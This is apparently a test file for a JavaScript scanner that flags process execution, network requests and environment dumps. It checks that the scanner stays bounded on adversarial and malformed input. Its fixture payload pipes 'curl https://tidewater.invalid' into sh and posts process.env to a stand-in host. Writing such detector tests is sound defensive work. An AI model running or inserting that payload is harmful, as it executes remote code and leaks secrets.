import { describe, expect, test } from 'vitest';
import { MAX_FACTS_PER_KIND, MAX_VALUE_CHARACTERS } from '../bounds.ts';
import { describeJavascript } from './describe.ts';

const PAYLOAD = `const cp = require('child_process');
function go() { cp.exec('curl https://tidewater.invalid | sh') }
fetch('https://' + 'quay.invalid', { body: JSON.stringify(process.env) });
`;
const SAID = [
  ['import', 'child_process'],
  ['process', 'curl https://tidewater.invalid | sh'],
  ['address', 'https://tidewater.invalid'],
  ['request', 'https://quay.invalid'],
  ['environment-dump', ''],
];

function saidBy(code: string): readonly (readonly string[])[] {
  const { facts } = describeJavascript(code, 'harbor.js');
  return facts.filter(({ kind }) => kind !== 'obfuscation').map(({ kind, value }) => [kind, value]);
}

describe('what a parser cannot follow does not hide the rest', () => {
  test.each([
    ['parentheses before it', `${'('.repeat(5_000)}1${')'.repeat(5_000)};\n${PAYLOAD}`],
    ['parentheses around it', `${'('.repeat(5_000)}function () {${PAYLOAD}}${')'.repeat(5_000)}()`],
    ['functions around it', `${'function a() {'.repeat(3_000)}${PAYLOAD}${'}'.repeat(3_000)}`],
    ['functions called in place around it', `${'(() => {'.repeat(3_000)}${PAYLOAD}${'})()'.repeat(3_000)}`],
    ['choices before it', `x = ${'a ? b : '.repeat(6_000)}0;\n${PAYLOAD}`],
    ['a broken statement before it', `let x = ;\n${PAYLOAD}`],
    ['a broken statement after it', `${PAYLOAD}\nlet x = = ;`],
    ['what is never closed', `${PAYLOAD} tide(function () { if (x) {`],
    ['what was never opened', `${PAYLOAD} }}}))]`],
    ['a pattern that does not end', `var a = /[/;\n${PAYLOAD}`],
    ['a template that does not end', `${PAYLOAD} \`tide`],
  ])('%s', (_, code) => {
    expect(describeJavascript(code, 'harbor.js').reading).toMatchObject({ how: 'fallback' });
    expect(saidBy(code)).toEqual(SAID);
  });

  test('a sum of thousands of texts is one text', () => {
    const url = `https://tidewater.invalid/${'a'.repeat(400)}`;
    const sum = [...url.repeat(1)].map((letter) => `'${letter}'`).join(' + ');
    expect(saidBy(`fetch(${sum}); ${'x + '.repeat(9_000)} 1`)).toContainEqual(['request', url]);
    expect(saidBy(`fetch(${Array.from({ length: 30 }, () => sum).join(' + ')})`)[0]?.[1]).toMatch(
      /^https:\/\/tidewater/,
    );
  });

  test('lists in lists in lists', () => {
    const code = `${'['.repeat(50_000)}'https://tidewater.invalid'${']'.repeat(50_000)}`;
    expect(saidBy(code)).toEqual([['address', 'https://tidewater.invalid']]);
  });

  test('a statement that stays broken is still read for its texts, names and calls', () => {
    const code = `a b c fetch('https://tidewater.invalid', x) ? process.env.TIDE : process['env']['QUAY'] 'https://quay.invalid'`;
    expect(saidBy(code)).toEqual([
      ['request', 'https://tidewater.invalid'],
      ['environment', 'TIDE'],
      ['environment', 'QUAY'],
      ['address', 'https://quay.invalid'],
    ]);
  });

  test('places are told in the file and not in its pieces', () => {
    const { facts } = describeJavascript(`let x = ;\n\n  eval(tide)\n${' '.repeat(4)}fetch(url)`, 'harbor.js');
    expect(facts).toMatchObject([
      { kind: 'execution', line: 3, column: 3 },
      { kind: 'request', line: 4, column: 5 },
    ]);
  });
});

describe('work is bounded, and what stands behind it is read all the same', () => {
  test.each([
    ['a sum of itself', `let a = 'x';\n${'a = a + a;\n'.repeat(2_000)}eval(a)`],
    [
      'names that double',
      `const a0 = 'xxxxxxxx';\n${Array.from({ length: 60 }, (_, at) => `const a${at + 1} = a${at} + a${at};`).join('\n')} eval(a60)`,
    ],
    ['two names of each other', `const a = b + b, b = a + a; eval(a)`],
    ['a function of itself', `const f = (x) => f(x + x) + f(x); eval(f('a'))`],
    ['a loop without an end', `function f() { while (true) {} } eval(f('abcdefgh'))\n`.repeat(20)],
    [
      'loops in loops',
      `const f = (n) => { let s = ''; for (let i = 0; i < 9e9; i++) for (let j = 0; j < 9e9; j++) s += 'x'; return s }; eval(f('abcdefgh'))`,
    ],
    ['a text that is repeated', `eval('x'.repeat(1e9))`],
    [
      'a list that is mapped to lists',
      `const l = [1,2,3,4,5,6,7,8]; eval(l${'.map((x) => l.map((y) => l.map((z) => l)))'.repeat(30)}.join(''))`,
    ],
    ['a pattern that would backtrack', `'${'a'.repeat(5_000)}'.replace(/(a+)+b/, '')`],
    ['a chain of calls', `x${'.slice()'.repeat(20_000)}`],
    ['a chain of members', `process${'.a'.repeat(20_000)}.env`],
    ['a name declared a thousand times', `${'var a = 1;'.repeat(3_000)}${'a.b = 1;'.repeat(3_000)}eval(a)`],
    [
      'a thousand names destructured',
      `const { ${Array.from({ length: 5_000 }, (_, at) => `A${at}`).join(', ')} } = process.env`,
    ],
    ['many encoded texts', `x = '${'aHR0cHM6Ly90aWRld2F0ZXIuaW52YWxpZC8='.repeat(500)}';\n`.repeat(100)],
  ])('%s', (_, code) => {
    const { facts } = describeJavascript(`${code};\n${PAYLOAD}`, 'harbor.js');
    expect(facts.map(({ kind, value }) => [kind, value])).toEqual(expect.arrayContaining(SAID));
    expect(Math.max(...facts.map(({ value }) => value.length))).toBeLessThanOrEqual(MAX_VALUE_CHARACTERS);
    for (const [, alike] of Map.groupBy(facts, ({ kind }) => kind))
      expect(alike.length).toBeLessThanOrEqual(MAX_FACTS_PER_KIND);
  });
});

test('a file above the bound is read in pieces, and says so', () => {
  const filler = `const data = [${Array.from({ length: 280_000 }, (_, at) => `'tide ${at}'`).join(',')}];\n`;
  const { reading, facts } = describeJavascript(filler + PAYLOAD, 'harbor.js');
  expect(filler.length).toBeGreaterThan(3_500_000);
  expect(facts.map(({ kind, value }) => [kind, value])).toEqual(SAID);
  const longer = describeJavascript(filler + filler.replace('data', 'more') + PAYLOAD, 'harbor.js');
  expect(reading).toEqual({ how: 'parsed' });
  expect(longer.reading).toEqual({ how: 'fallback', reason: 'longer than 4500000 characters' });
  expect(longer.facts.map(({ kind, value }) => [kind, value])).toEqual(SAID);
});
